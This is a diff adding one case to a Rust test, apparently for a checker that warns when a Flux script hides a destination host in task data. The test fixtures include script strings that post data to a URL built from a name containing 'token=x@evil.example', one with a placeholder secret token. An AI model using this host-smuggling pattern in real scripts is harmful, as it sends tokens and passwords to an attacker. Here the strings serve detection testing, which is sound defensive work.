@@ -500,6 +500,7 @@ fn a_place_that_is_hidden_in_what_a_script_is_given_is_said() {
             "import \"sql\"\nsql.from(driverName: \"postgres\", dataSourceName: \"host=good password=\" + params.password, query: \"q\")".to_owned(),
         ),
         ("name = \"token=x@evil.example\"", post("\"https://\" + task.name")),
+        ("name = \"token=x@evil.example\"\nparams = { token = \"S3KRIT\" }", post("\"https://\" + task.name")),
         ("name = \"token=evil.example\"", post("\"https://\" + strings.trimPrefix(v: task.name, prefix: \"token=\")")),
     ] {
         assert_eq!(by(task, &script), [(Code::FluxHiddenPlace, Severity::Warning)], "{task} {script}");
